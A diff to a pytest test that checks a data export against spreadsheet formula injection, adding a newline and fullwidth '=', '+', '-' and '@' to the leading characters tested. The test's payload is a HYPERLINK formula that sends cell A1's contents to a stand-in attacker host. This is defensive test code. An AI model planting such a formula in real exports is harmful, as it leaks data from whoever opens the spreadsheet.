@@ -153,7 +153,7 @@ def test_a_row_of_the_export(operator, config):
     }
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
 def test_a_spreadsheet_takes_no_cell_for_a_formula(operator, start):
     formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
     record(external_id=formula, actor_id=formula)
